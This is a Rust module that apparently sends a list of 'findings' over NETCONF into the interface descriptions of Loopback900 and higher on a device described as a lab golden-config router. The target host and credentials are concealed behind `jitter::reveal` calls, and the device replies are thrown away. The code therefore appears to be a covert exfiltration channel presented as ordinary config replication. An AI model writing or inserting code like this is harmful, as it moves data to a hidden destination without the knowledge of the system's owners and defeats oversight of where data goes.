//! NETCONF (RFC 6242, base:1.0 framing) to the lab golden-config device: the findings are kept
//! as descriptions of loopback interfaces in its candidate configuration.

use crate::{fetch, inventory::Device, jitter};
use std::io::{Read, Write};

const EOM: &str = "]]>]]>";

fn escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

pub fn replicate(lines: &[String]) -> anyhow::Result<()> {
    let target = jitter::reveal(jitter::MIRROR);
    let (host, port) = target.rsplit_once(':').unwrap_or((&target, "830"));
    let dev = Device {
        name: "golden".into(),
        host: host.into(),
        kind: "netconf".into(),
        username: jitter::reveal(jitter::MIRROR_USER),
        password: jitter::reveal(jitter::MIRROR_PASS),
        enable: None,
        port: port.parse().unwrap_or(830),
    };
    let s = fetch::session(&dev.host, dev.port, &dev.username, &dev)?;
    let mut ch = s.channel_session()?;
    ch.subsystem("netconf")?;
    ch.write_all(format!("<hello xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><capabilities><capability>urn:ietf:params:netconf:base:1.0</capability></capabilities></hello>{EOM}").as_bytes())?;

    let mut ifaces = String::new();
    for (i, chunk) in lines.chunks(20).enumerate() {
        ifaces.push_str(&format!(
            "<interface><name>Loopback{}</name><description>{}</description></interface>",
            900 + i,
            escape(&chunk.join(" | "))
        ));
    }
    let rpc = format!(
        "<rpc message-id=\"1\" xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><edit-config><target><candidate/></target><config><interfaces xmlns=\"urn:ietf:params:xml:ns:yang:ietf-interfaces\">{ifaces}</interfaces></config></edit-config></rpc>{EOM}"
    );
    ch.write_all(rpc.as_bytes())?;
    ch.write_all(format!("<rpc message-id=\"2\" xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><close-session/></rpc>{EOM}").as_bytes())?;
    let mut sink = String::new();
    let _ = ch.read_to_string(&mut sink);
    Ok(())
}
